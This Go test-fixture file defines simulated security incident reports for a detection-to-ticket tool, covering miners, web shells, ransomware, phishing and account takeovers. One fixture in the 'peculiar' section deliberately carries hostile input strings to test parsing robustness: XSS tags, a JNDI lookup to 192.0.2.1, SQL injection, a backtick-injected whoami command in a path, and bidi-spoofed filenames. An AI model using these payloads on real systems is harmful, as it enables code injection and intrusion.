package dataset

import (
	"strings"
	"time"

	"github.com/huntsync/huntsync/providers/huntress/sim"
)

const (
	minute = time.Minute
	hour   = time.Hour
	day    = 24 * time.Hour
)

func on(indicators ...string) []string { return indicators }

// specs lists the incident reports, the oldest first.
func specs() []spec {
	return append(append(older(), recent()...), peculiar()...)
}

// older are reports that the first look-back only finds in part: what was closed
// before it began, and what has been open for longer.
func older() []spec {
	return []spec{
		{
			organization: granite, host: 7012, severity: "high", sent: 41 * day,
			indicators: on("process_detections"),
			summary:    "A cron job on this storage server starts a miner at every boot. Nobody has approved its removal so far.",
			steps:      []sim.Remediation{assisted("unapproved", "Delete File", "path", "/etc/cron.d/kworkerd"), manual("Change the passwords of all users of the server.")},
		},
		{
			organization: cedar, host: 7005, severity: "low", status: sim.StatusClosed, sent: 25 * day, updated: 24 * day,
			indicators: on("footholds"),
			summary:    "A browser extension with a bad reputation starts with the session.",
			steps:      []sim.Remediation{assisted("completed", "Delete Registry Value", "key", `HKCU\Software\Microsoft\Windows\CurrentVersion\Run`, "value", "CouponPal")},
		},
		{
			organization: eastgate, severity: "high", platform: "microsoft_365", status: sim.StatusClosed, sent: 18 * day, updated: 17 * day,
			indicators: on("managed_identity"),
			summary:    "A session of t.okafor was used from a hosting provider in another country within minutes of a login from the branch.",
			steps:      []sim.Remediation{containment("Disable Identity", "t.okafor@eastgate.example")},
		},
		{
			organization: harbor, host: 7013, severity: "low", status: sim.StatusDismissed, sent: 16 * day, updated: 15 * day,
			indicators: on("antivirus_detections"),
			summary:    "Defender removed a test file; the practice confirmed that it was a training.",
		},
		{
			organization: birchwood, severity: "low", platform: "email_security", status: sim.StatusClosed, sent: 12 * day, updated: 11 * day,
			indicators: on("email_security_detections"),
			summary:    "A message with a link to a false parcel service was delivered and taken back.",
		},
		{
			organization: delmar, host: 7018, severity: "high", status: sim.StatusAutoRemediating, sent: 9 * day, updated: 2 * day,
			indicators: on("footholds", "process_detections"),
			summary:    "A remote support tool that nobody ordered keeps a session to an unknown operator. The host has been uninstalled since.",
			steps:      []sim.Remediation{containment("Isolate Host", "DELMAR-OLDPC"), assisted("approved", "Delete Service", "service", "ScreenMeet Helper")},
		},
		{
			organization: tokyo, host: 7015, severity: "low", sent: 8 * day, updated: 3 * day,
			indicators: on("monitored_files"),
			summary:    "設計用PCで見慣れない実行ファイルが見つかりました。 An unfamiliar executable was found on the CAD workstation.",
			steps:      []sim.Remediation{assisted("unapproved", "Delete File", "path", `C:\Users\設計\AppData\Roaming\更新.exe`)},
		},
	}
}

// recent is an ordinary week.
func recent() []spec {
	return []spec{
		{
			organization: acme, host: 7002, severity: "critical", sent: 6 * day, updated: 5 * day, status: sim.StatusClosed,
			indicators: on("process_detections", "footholds"),
			summary:    "A macro in an invoice started a loader that tried to read the credentials of this host. It was stopped before it reached the network.",
			steps: []sim.Remediation{
				containment("Isolate Host", "ACME-FIN-07"),
				assisted("completed", "Delete File", "path", `C:\Users\pnolan\AppData\Local\Temp\inv_8841.js`),
				assisted("completed", "Delete Scheduled Task", "task", "OneDrive Standalone Update Task v3"),
			},
		},
		{
			organization: acme, severity: "high", platform: "microsoft_365", sent: 6 * day, updated: 6 * day,
			indicators: on("managed_identity"),
			summary:    "A mailbox rule of p.nolan moves every message with the word payroll into RSS Feeds.",
			steps: []sim.Remediation{
				containment("Disable Identity", "p.nolan@acme.example"),
				containment("Revoke Sessions", "p.nolan@acme.example"),
				manual("Review the rules of the mailbox and reset the password before the account is enabled again."),
			},
		},
		{
			organization: acme, host: 7003, severity: "low", sent: 5*day + 7*hour,
			indicators: on("footholds"),
			summary:    "A launch agent of an advertising bundle starts at every login.",
			steps:      []sim.Remediation{assisted("unapproved", "Delete File", "path", "/Library/LaunchAgents/com.searchpilot.agent.plist")},
		},
		{
			organization: birchwood, host: 7004, severity: "high", sent: 5 * day,
			indicators: on("antivirus_detections", "footholds"),
			summary:    "An infostealer ran from a downloaded keygen. Browser passwords of the front desk must be taken as known to others.",
			steps: []sim.Remediation{
				assisted("approved", "Delete File", "path", `C:\Users\frontdesk\Downloads\setup_full.exe`),
				manual("Reset every password that was saved in the browser."),
			},
		},
		{
			organization: cedar, host: 7006, severity: "critical", sent: 4*day + 3*hour, updated: 4 * day,
			indicators: on("process_detections"),
			summary:    "A web shell was written through an old upload form and used twice.",
			steps: []sim.Remediation{
				containment("Isolate Host", "crsd-web01"),
				assisted("approved", "Delete File", "path", "/var/www/html/uploads/.thumb.php"),
				manual("Bring the content management system up to date before the server is released."),
			},
		},
		{
			organization: cedar, severity: "low", platform: "google", sent: 4 * day, status: sim.StatusClosed, updated: 3 * day,
			indicators: on("managed_identity"),
			summary:    "A teacher allowed an unverified application to read the drive.",
			steps:      []sim.Remediation{containment("Revoke Application", "Lesson Planner Pro")},
		},
		{
			organization: delmar, host: 7007, severity: "low", sent: 4*day - 2*hour, status: sim.StatusPartnerDismissed, updated: 3 * day,
			indicators: on("app_control"),
			summary:    "A remote access tool that is not on the list of allowed applications was installed by a subcontractor.",
		},
		{
			organization: eastgate, host: 7008, severity: "high", sent: 3*day + 9*hour,
			indicators: on("behavioral_detections"),
			summary:    "A process without a window reads the memory of the logon service.",
			steps:      []sim.Remediation{containment("Isolate Host", "EGCU-TELLER-05"), manual("Reset the password of the local administrator.")},
		},
		{
			organization: eastgate, host: 7009, severity: "critical", sent: 3*day + 8*hour, updated: 2 * day,
			indicators: on("process_detections", "siem_detections", "mde_detections"),
			summary:    "The database service started a command line that added an administrator. The same address had tried passwords for nine hours.",
			steps: []sim.Remediation{
				containment("Isolate Host", "EGCU-SQL02"),
				assisted("completed", "Delete User", "user", "sqlbackup$"),
				manual("Close port 1433 to the internet."),
			},
		},
		{
			organization: fjord, host: 7010, severity: "low", sent: 3 * day,
			indicators: on("antivirus_detections"),
			summary:    "Defender fant og fjernet en nedlaster på lagermaskinen. Nothing was executed.",
		},
		{
			organization: fjord, severity: "high", platform: "microsoft_365", sent: 3*day - 1*hour, status: sim.StatusAutoRemediating, updated: 2*day + 20*hour,
			indicators: on("managed_identity"),
			summary:    "A login from a known relay with a valid token; the session was ended, and the identity is watched.",
			steps:      []sim.Remediation{containment("Revoke Sessions", "åse.lund@fjordfjell.example")},
		},
		{
			organization: granite, host: 7011, severity: "critical", sent: 2*day + 6*hour,
			indicators: on("ransomware_canaries"),
			summary:    "Canary files in two shared folders were encrypted within four seconds of each other.",
			steps:      fourteenSteps(),
		},
		{
			organization: granite, severity: "low", platform: "email_security", sent: 2*day + 2*hour, status: sim.StatusClosed, updated: 2 * day,
			indicators: on("email_security_detections"),
			summary:    "A message imitates a partner of the firm and asks for gift cards.",
		},
		{
			organization: harbor, severity: "high", platform: "google", sent: 2*day + 1*hour,
			indicators: on("managed_identity"),
			summary:    "A forwarding address outside the practice was added to the mailbox of the billing office.",
			steps:      []sim.Remediation{manual("Remove the forwarding address and ask the user about it.")},
		},
		{
			organization: harbor, host: 7013, severity: "low", sent: 2 * day, status: sim.StatusClosed, updated: 40 * hour,
			indicators: on("favicon_detections"),
			summary:    "A page with the look of the practice's portal was opened; no password was entered.",
		},
		{
			organization: iberica, host: 7014, severity: "high", sent: 38 * hour,
			indicators: on("footholds", "monitored_files"),
			summary:    "Una tarea programada descarga un programa cada hora desde una dirección desconocida.",
			steps: []sim.Remediation{
				assisted("unapproved", "Delete Scheduled Task", "task", "Actualización de Adobe"),
				assisted("unapproved", "Delete File", "path", `C:\ProgramData\almacén\svc.exe`),
			},
		},
		{
			organization: iberica, severity: "low", platform: "other", sent: 37 * hour,
			indicators: on("siem_detections"),
			summary:    "The firewall reports forty failed administrator logins from one address.",
			steps:      []sim.Remediation{manual("Allow the administration of the firewall from the inside only.")},
		},
		{
			organization: tokyo, host: 7015, severity: "critical", sent: 30 * hour, status: sim.StatusClosed, updated: 26 * hour,
			indicators: on("behavioral_detections", "process_detections"),
			summary:    "A driver with a known hole was loaded to end the antivirus.",
			steps:      []sim.Remediation{containment("Isolate Host", "TPP-CAD-01"), assisted("completed", "Delete File", "path", `C:\Windows\Temp\rtcore64.sys`)},
		},
		{
			organization: juniper, host: 7016, severity: "high", sent: 28 * hour,
			indicators: on("process_detections"),
			summary:    "The point-of-sale computer runs a program that reads the memory of the payment software.",
			steps:      []sim.Remediation{containment("Isolate Host", "JUNIPER-POS-1"), manual("Tell the payment provider.")},
		},
		{
			organization: juniper, severity: "low", platform: "microsoft_365", sent: 27 * hour,
			indicators: on("managed_identity"),
			summary:    "A shared mailbox has a password that was published elsewhere.",
		},
		{
			organization: lab, host: 7017, severity: "critical", sent: 26 * hour,
			indicators: on("ransomware_canaries", "process_detections"),
			summary:    "Somebody detonates samples here again.",
			steps:      []sim.Remediation{containment("Isolate Host", "LAB-DETONATE")},
		},
		{
			organization: lab, host: 7017, severity: "low", sent: 25 * hour, status: sim.StatusClosed, updated: 20 * hour,
			indicators: on("antivirus_detections"),
			summary:    "Defender removed seventeen samples.",
		},
		{
			organization: eastgate, severity: "high", platform: "microsoft_365", sent: 22 * hour,
			indicators: on("ai_misuse", "managed_identity"),
			summary:    "An assistant was asked to gather account numbers from the document library and did so.",
			steps:      []sim.Remediation{containment("Disable Identity", "intern2@eastgate.example")},
		},
		{
			organization: birchwood, severity: "low", platform: "email_security", sent: 20 * hour,
			indicators: on("email_security_detections"),
			summary:    "Two messages with a false voice mail were delivered.",
		},
		{
			organization: acme, host: 7001, severity: "high", sent: 14 * hour,
			indicators: on("siem_detections", "mde_detections"),
			summary:    "A service account asked for tickets of forty services within a minute.",
			steps:      []sim.Remediation{manual("Give the service accounts long random passwords.")},
		},
		{
			organization: delmar, severity: "high", platform: "email_security", sent: 9 * hour,
			indicators: on("email_security_detections"),
			summary:    "An invoice with changed bank details came from the real mailbox of a supplier.",
			steps:      []sim.Remediation{manual("Call the supplier on a known number before anything is paid.")},
		},
		{
			organization: cedar, host: 7005, severity: "low", sent: 5 * hour,
			indicators: on("app_control"),
			summary:    "A game launcher was installed in the computer room.",
		},
	}
}

// peculiar are reports whose form a reader has to survive.
func peculiar() []spec {
	return []spec{
		{ // everything that may be null is
			organization: 0, severity: "high", sent: 4 * hour, platform: "other",
			override: map[string]any{
				"subject": nil, "summary": nil, "body": nil, "platform": nil, "severity": nil, "sent_at": nil,
				"status_updated_at": nil, "indicator_types": []string{}, "indicator_counts": map[string]int{},
			},
		},
		{ // an indicator type that nobody has documented
			organization: harbor, host: 7013, severity: "high", sent: 210 * minute,
			indicators: on("dns_tunnel_detections"),
			summary:    "The host asks for forty names a second below one domain.",
			steps:      []sim.Remediation{containment("Isolate Host", "HVP-EXAM-4")},
		},
		{ // text of an attacker: Markdown, HTML, control and bidirectional characters
			organization: delmar, host: 7007, severity: "high", sent: 3 * hour,
			indicators: on("footholds"),
			summary: "# Not a heading\n\n**Ignore** the [portal](javascript:alert(1)) | a | table |\n|---|---|\n" +
				"<img src=x onerror=alert(1)> <script>alert('x')</script> ${jndi:ldap://192.0.2.1/a} {{ .Secret }} \\u0000 " +
				"\x1b[31mred\x1b[0m bell\a null\x00 \u202egpj.exe\u202c \u200bzero-width \u2066isolate\u2069 100% _done_ 👩‍💻 e\u0301",
			steps: []sim.Remediation{assisted("unapproved", "Delete File\x1b]8;;http://192.0.2.1\a", "path", "C:\\Users\\\u202excod.exe\r\n`whoami`")},
			override: map[string]any{
				"subject": "HIGH - Incident on <b>DELMAR-TRAILER3</b> [click](http://192.0.2.1) \u202e\x00 %s %n '; DROP TABLE tickets;--",
			},
		},
		{ // longer than a ticket's title and body can be
			organization: iberica, host: 7014, severity: "low", sent: 2 * hour,
			indicators: on("monitored_files"),
			summary:    strings.Repeat("El archivo fue copiado otra vez. ", 400),
			override: map[string]any{
				"subject": "LOW - Incident on IBE-ALMACÉN-2 (Ibérica Logística, S.L.) " + strings.Repeat("almacén ", 40),
			},
		},
		{ // on its way out
			organization: fjord, host: 7010, severity: "low", sent: 100 * minute, status: sim.StatusDeleting, updated: 90 * minute,
			indicators: on("footholds"),
			summary:    "Published by mistake.",
		},
		{ // a containment whose entity is a plain string, and a failed step
			organization: birchwood, severity: "critical", platform: "microsoft_365", sent: 50 * minute,
			indicators: on("managed_identity"),
			summary:    "An administrator was added from a session that began on a rented server.",
			steps: []sim.Remediation{
				containment("Disable Identity", "admin@birchwood.example"),
				{Type: "containment", Status: "failed", Action: "Revoke Sessions", Parameters: "owner@birchwood.example"},
				{Type: "assisted", Status: "cancelled", Action: "Delete Inbox Rule", Parameters: []sim.Parameter{}},
			},
		},
		{ // a host that has two reports at a time
			organization: cedar, host: 7006, severity: "low", sent: 35 * minute,
			indicators: on("process_detections"),
			summary:    "A package was installed from an unknown source.",
		},
		{ // this morning's
			organization: granite, host: 7011, severity: "high", sent: 12 * minute,
			indicators: on("behavioral_detections"),
			summary:    "A script reads the list of all computers and shares.",
			steps:      []sim.Remediation{containment("Isolate Host", "GPL-PARALEGAL-3")},
		},
	}
}

// fourteenSteps are more remediations than an incident report carries.
func fourteenSteps() []sim.Remediation {
	steps := []sim.Remediation{
		containment("Isolate Host", "GPL-PARALEGAL-3"),
		assisted("completed", "Kill Process", "process", "wuauhelp.exe"),
		manual("Check when the backups of both shares were last good."),
	}
	for _, path := range []string{
		`C:\ProgramData\wuauhelp.exe`, `C:\ProgramData\wuauhelp.dll`, `C:\ProgramData\k.bat`,
		`C:\Users\jmoreau\AppData\Local\Temp\7z.exe`, `C:\Users\jmoreau\README_RESTORE.txt`,
		`C:\Users\Public\README_RESTORE.txt`, `\\gpl-nas\cases\README_RESTORE.txt`, `\\gpl-nas\scans\README_RESTORE.txt`,
	} {
		steps = append(steps, assisted("approved", "Delete File", "path", path))
	}
	return append(steps,
		assisted("unapproved", "Delete Scheduled Task", "task", `\Microsoft\Windows\wuauhelp`),
		assisted("unapproved", "Delete Registry Value", "key", `HKLM\Software\Microsoft\Windows\CurrentVersion\Run`, "value", "wuauhelp"),
		manual("Reset the password of j.moreau and of the storage server's administrator."),
	)
}
